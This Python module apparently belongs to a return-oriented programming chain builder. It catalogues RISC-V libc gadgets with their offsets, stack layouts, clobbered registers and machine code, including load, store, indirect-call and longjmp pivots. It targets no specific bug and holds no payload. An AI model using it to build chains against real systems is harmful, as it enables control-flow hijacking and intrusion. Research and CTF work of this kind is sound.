#!/usr/bin/env python3
"""
Primitive Gadget Catalogue
==========================

Fixed code fragments of the target's libc (RV64GC).

Each primitive declares the frame it pops as a LAYOUT tuple, in stack
order (lowest address first):

    None   filler word, emitted as 0
    'ra'   the next return address, injected by the enclosing Sequence
    reg    a register parameter supplied by the caller

Frame size is always 8 * len(LAYOUT). Side effects beyond a primitive's
purpose are listed in CLOBBERS and must be accounted for by macros.

Where the instruction text of a fragment is documented its machine code is
recorded in CODE, so the frame contract can be checked by disassembly
(see disasm.GadgetDisassembler).
"""

from . import config
from .config import WORD_SIZE
from .errors import StructuralError
from .gadget import Gadget

WORD_MASK = (1 << 64) - 1


class Primitive(Gadget):
    """Single libc fragment with a declarative frame layout"""

    OFFSET = None
    LAYOUT = ()
    CLOBBERS = ()
    CODE = None

    def __init__(self, **regs):
        super().__init__()
        self.regs = regs

    def get_size(self):
        return len(self.LAYOUT) * WORD_SIZE

    def get_entry_point(self):
        return config.BASE + self.OFFSET

    def synthesize(self):
        return [self._slot_word(slot) for slot in self.LAYOUT]

    def _slot_word(self, slot):
        if slot is None:
            return 0
        value = self.next_ra if slot == 'ra' else self.regs[slot]
        if value is None:
            raise StructuralError(
                f"{type(self).__name__}: slot '{slot}' unresolved at synthesis"
            )
        return value & WORD_MASK

    def get_slot_location(self, reg):
        """Absolute address of the stack word popped into reg"""
        return self.get_frame_location() + self.LAYOUT.index(reg) * WORD_SIZE

    def describe(self):
        params = ', '.join(
            f"{reg}={'?' if val is None else hex(val)}"
            for reg, val in self.regs.items()
        )
        return f"{type(self).__name__}({params})"


class Nop(Primitive):
    OFFSET = 0x97a68
    LAYOUT = (None, 'ra')


class PopA0(Primitive):
    """Load-immediate: a0 = popped word"""

    OFFSET = 0x58d9e
    LAYOUT = (None, 'a0', None, 'ra')

    def __init__(self, a0):
        super().__init__(a0=a0)

    def get_popped_a0_location(self):
        return self.get_slot_location('a0')


class PopS0(Primitive):
    OFFSET = 0x5c172
    LAYOUT = ('s0', 'ra')

    def __init__(self, s0):
        super().__init__(s0=s0)

    def get_popped_s0_location(self):
        return self.get_slot_location('s0')


class Add1A0(Primitive):
    """a0 += 1; also pops s0"""

    OFFSET = 0x6dc7e
    LAYOUT = ('s0', 'ra')
    CLOBBERS = ('s0',)

    def __init__(self, s0=0):
        super().__init__(s0=s0)


class Dec2A0(Primitive):
    """a0 -= 2"""

    OFFSET = 0x6437e
    LAYOUT = (None, 'ra')


class LdA5S0(Primitive):
    """
    a5 = [s0], then a stack-canary style check

        c.ldsp  a4, 0x48(sp)
        c.ld    a5, 0(s0)
        bne     a4, a5, 0x10
        c.ldsp  ra, 0x58(sp)
        c.ldsp  s0, 0x50(sp)
        c.addi16sp sp, 0x60
        c.jr    ra

    The popped a4 must equal [s0] on entry or the fragment falls through
    into the canary failure path.
    """

    OFFSET = 0xa4ac8
    LAYOUT = (None,) * 9 + ('a4', 's0', 'ra')
    CLOBBERS = ('a4', 'a5', 's0')
    CODE = bytes.fromhex('26671c606318f700e660466425618280')

    def __init__(self, a4, s0):
        super().__init__(a4=a4, s0=s0)


class LdA0Off8A0(Primitive):
    """
    Dereference-load: a0 = [a0 + 8] + a5

        c.ld    a0, 8(a0)
        c.add   a0, a5
        c.ldsp  a4, 0x28(sp)
        c.ld    a5, 0(s0)
        bne     a4, a5, 0x1e
        c.ldsp  ra, 0x38(sp)
        c.ldsp  s0, 0x30(sp)
        c.addi16sp sp, 0x40
        c.jr    ra
    """

    OFFSET = 0xd3230
    LAYOUT = (None,) * 5 + ('a4', 's0', 'ra')
    CLOBBERS = ('a4', 'a5', 's0')
    CODE = bytes.fromhex('08653e9522771c60631ff700e270427421618280')

    def __init__(self, a4, s0):
        super().__init__(a4=a4, s0=s0)


class SdA0S0(Primitive):
    """
    Pointer-offset store: [s0 + 0x10] = a0

        c.ldsp  ra, 8(sp)
        c.sd    a0, 0x10(s0)
        c.ldsp  s0, 0(sp)
        c.addi  sp, 0x10
        c.jr    ra
    """

    OFFSET = 0xd30de
    LAYOUT = ('s0', 'ra')
    CODE = bytes.fromhex('a26008e8026441018280')

    def __init__(self, s0):
        super().__init__(s0=s0)


class PopA5(Primitive):
    """
    a5 = popped word; clobbers a0

        c.ldsp  a5, 8(sp)
        c.ldsp  ra, 0x18(sp)
        c.mv    a0, a5
        c.addi16sp sp, 0x20
        c.jr    ra
    """

    OFFSET = 0x2d9d6
    LAYOUT = (None, 'a5', None, 'ra')
    CLOBBERS = ('a0',)
    CODE = bytes.fromhex('a267e2603e8505618280')

    def __init__(self, a5):
        super().__init__(a5=a5)


class CallA5(Primitive):
    """
    Indirect call through a5; a0 holds the return value

        c.jalr  a5
        c.ldsp  ra, 8(sp)
        sd      zero, 0x50(s0)
        c.ldsp  s0, 0(sp)
        c.addi  sp, 0x10
        c.jr    ra

    s0 + 0x50 must be writable when the callee returns.
    """

    OFFSET = 0xb95d4
    LAYOUT = ('s0', 'ra')
    CLOBBERS = ('a0', 'a1', 'a2', 'a3', 'a4', 'a5', 'a6', 'a7',
                't0', 't1', 't2', 't3', 't4', 't5', 't6')
    CODE = bytes.fromhex('8297a26023380404026441018280')

    def __init__(self, s0):
        super().__init__(s0=s0)


class Longjmp(Primitive):
    """
    glibc __longjmp: reload ra, s0-s11 and sp from the jmp_buf at a0

    Consumes no stack words; control continues at the saved ra with the
    saved sp, so the injected next return address is never used.
    """

    OFFSET = 0x325b4
    LAYOUT = ()
    CLOBBERS = ('a0', 's0', 's1', 's2', 's3', 's4', 's5',
                's6', 's7', 's8', 's9', 's10', 's11')


class SeqzA0(Primitive):
    """Zero test: a0 = (a0 == 0)"""

    OFFSET = 0xd1ad6
    LAYOUT = (None, 'ra')


class PopS0S1S2(Primitive):
    OFFSET = 0xa3b34
    LAYOUT = ('s2', 's1', 's0', 'ra')

    def __init__(self, s0, s1, s2):
        super().__init__(s0=s0, s1=s1, s2=s2)


class AddA5A0(Primitive):
    """a5 += a0; pops s0-s3 and stores through s2"""

    OFFSET = 0x60f40
    LAYOUT = (None, 's3', 's2', 's1', 's0', 'ra')
    CLOBBERS = ('s0', 's1', 's2', 's3')

    def __init__(self, s0, s1, s2, s3):
        super().__init__(s0=s0, s1=s1, s2=s2, s3=s3)


class AddA0A5(Primitive):
    """a0 += a5"""

    OFFSET = 0xa91c0
    LAYOUT = (None,) * 9 + ('ra',)


PRIMITIVES = [
    Nop,
    PopA0,
    PopS0,
    Add1A0,
    Dec2A0,
    LdA5S0,
    LdA0Off8A0,
    SdA0S0,
    PopA5,
    CallA5,
    Longjmp,
    SeqzA0,
    PopS0S1S2,
    AddA5A0,
    AddA0A5,
]


def libc_routine(name):
    """Absolute address of a libc routine used by call macros"""
    return config.BASE + config.LIBC_ROUTINES[name]
